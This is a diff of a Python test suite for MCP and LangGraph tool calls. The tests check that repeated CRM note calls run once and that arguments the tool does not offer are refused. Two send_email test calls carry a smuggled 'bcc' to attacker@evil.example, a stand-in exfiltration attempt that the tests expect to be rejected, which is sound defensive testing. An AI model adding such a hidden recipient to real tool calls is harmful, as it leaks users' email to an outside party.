@@ -121,7 +121,7 @@ def test_mcp_over_stdio_lists_each_spec_sends_a_repeated_call_once_and_refuses_a
             received = stack.received()
             calls.append(await client.call_tool("send_email", {**email(subject + " again"),
                                                                "bcc": "attacker@evil.example"}))
-            calls.append(await client.call_tool("add_note", {"deal_id": "D-7", "text": "won"},
+            calls.append(await client.call_tool("crm.add_note", {"deal_id": "D-7", "text": "won"},
                                                 meta={contrib_mcp.CALL_ID_META: f"toolu_{stack.ns}"}))
             return listed, calls, received
 
@@ -174,7 +174,7 @@ def test_mcp_a_call_outliving_its_wait_is_pending_and_asking_again_later_gives_t
             state = await client.call_tool("intent_state", {"key": outcomes[0]["key"]})
             outcomes.append(state.structured_content)
             note = {"deal_id": "D-8", "text": f"call me ({transport})"}
-            outcomes += [(await client.call_tool("add_note", note, meta=meta)).structured_content for _ in range(2)]
+            outcomes += [(await client.call_tool("crm.add_note", note, meta=meta)).structured_content for _ in range(2)]
         return outcomes
 
     first, *again, state, note, note_again = anyio.run(main)
@@ -194,7 +194,7 @@ def test_mcp_over_http_refuses_an_unoffered_argument_and_enqueues_nothing(stack:
     async def main() -> list[Any]:
         async with quick_client(stack, "http") as client:
             refused = await client.call_tool("send_email", {**email(subject), "bcc": "attacker@evil.example"})
-            note = await client.call_tool("add_note", {"deal_id": "D-9", "text": "after"},
+            note = await client.call_tool("crm.add_note", {"deal_id": "D-9", "text": "after"},
                                           meta={contrib_mcp.CALL_ID_META: f"toolu_{uuid.uuid4().hex[:8]}"})
             return [refused, note]
 
@@ -226,12 +226,14 @@ def test_langgraph_toolnode_runs_a_repeated_tool_call_once_and_refuses_an_unoffe
         ask = AIMessage("", tool_calls=[{"name": name, "args": args, "id": call_id}])
         answer = agent.invoke({"messages": [ask]})["messages"][-1]
         assert answer.tool_call_id == call_id
-        return dict(json.loads(answer.content))
+        outcome = dict(json.loads(answer.content))
+        assert answer.status == ("error" if outcome["status"] in ("invalid", "failed", "error") else "success")
+        return outcome
 
     before = stack.received()
-    refused = run("add_note", {"deal_id": "D-9", "text": "x", "owner": "bob"}, "call_0")
+    refused = run("crm.add_note", {"deal_id": "D-9", "text": "x", "owner": "bob"}, "call_0")
     assert refused["status"] == "invalid" and refused["error"]["field"] == "owner"
-    notes = [run("add_note", {"deal_id": "D-9", "text": "signed"}, "call_1") for _ in range(2)]
+    notes = [run("crm.add_note", {"deal_id": "D-9", "text": "signed"}, "call_1") for _ in range(2)]
     assert [o["status"] for o in notes] == ["sent", "duplicate"] and stack.notes().count("D-9: signed") == 1
     wait_for(lambda: stack.received() >= before + 2)
     assert stack.received() == before + 2  # the two note calls; the refused one enqueued nothing
